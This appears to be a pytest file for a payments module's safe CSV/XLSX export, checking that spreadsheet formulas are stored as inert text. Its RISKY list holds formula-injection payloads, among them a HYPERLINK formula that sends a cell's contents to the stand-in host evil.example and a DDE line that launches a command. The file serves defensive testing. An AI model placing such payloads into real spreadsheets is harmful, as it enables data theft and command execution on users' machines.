"""Names that a spreadsheet would take for formulas arrive as text, in CSV and in XLSX."""

import csv
import zipfile
from pathlib import Path

import pytest

from payments.safe_cells import LONGEST, Cell, CsvTable, XlsxBook, Yuan, csv_cell, is_risky

RISKY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "-2+3",
    "  =cmd|' /C calc'!A0",
    "＝1+1",
    "\ufeff=1",
]
HARMLESS = ["张三", "P2026-1", "4200001234202611220000000001", "a=b", "", "1.50", "https://example.org/x"]


def written(folder: Path, values: list[Cell]) -> tuple[list[list[str]], str, str]:
    """(rows of the CSV, the sheet's XML, the workbook's list of relations)"""
    table = CsvTable(folder / "x.csv", ["名称"])
    book = XlsxBook(folder / "x.xlsx")
    sheet = book.sheet("表", ["名称"])
    for value in values:
        table.put([value])
        sheet.put([value])
    table.close()
    book.close()
    with (folder / "x.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    with zipfile.ZipFile(folder / "x.xlsx") as archive:
        assert not [name for name in archive.namelist() if "rels" in name and "sheet" in name], "no link leads out of the sheet"
        return rows, archive.read("xl/worksheets/sheet1.xml").decode(), archive.read("xl/styles.xml").decode()


@pytest.mark.parametrize("text", RISKY)
def test_a_formula_arrives_as_text_in_both(tmp_path: Path, text: str) -> None:
    rows, sheet, styles = written(tmp_path, [text])
    assert rows[1] == [f"'{text}"]
    assert "<f>" not in sheet and "<f " not in sheet and "<hyperlink" not in sheet
    assert sheet.count('t="inlineStr"') == 2  # the heading and the text
    assert 'quotePrefix="1"' in styles


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_is_left_alone(tmp_path: Path, text: str) -> None:
    assert not is_risky(text)
    rows, sheet, _ = written(tmp_path, [text])
    assert rows[1] == [text]
    assert "<f>" not in sheet and "<hyperlink" not in sheet


def test_a_number_of_thirty_digits_is_text_in_the_sheet_and_loses_no_digit(tmp_path: Path) -> None:
    _, sheet, _ = written(tmp_path, ["4200001234202611220000000001"])
    assert "<is><t>4200001234202611220000000001</t></is>" in sheet


def test_money_is_a_number_also_below_zero(tmp_path: Path) -> None:
    rows, sheet, _ = written(tmp_path, [Yuan(-160), 7, None])
    assert rows[1:] == [["-1.60"], ["7"], [""]]
    assert "<v>-1.6</v>" in sheet and "<v>7</v>" in sheet


def test_every_field_is_quoted_so_that_no_separator_inside_a_text_begins_a_cell(tmp_path: Path) -> None:
    written(tmp_path, ["a;=1+1"])
    assert '"a;=1+1"' in (tmp_path / "x.csv").read_text(encoding="utf-8-sig")


def test_what_xml_cannot_hold_and_what_is_too_long_does_not_break_the_file(tmp_path: Path) -> None:
    rows, sheet, _ = written(tmp_path, ["a\x00\x1f\ud800b", "字" * (LONGEST + 1)])
    assert rows[1] == ["ab"] and "<is><t>ab</t></is>" in sheet
    assert "字" * LONGEST + "</t>" in sheet and "字" * (LONGEST + 1) not in sheet


def test_a_control_character_does_not_hide_a_formula() -> None:
    assert csv_cell("\x00=1+1") == "'=1+1"
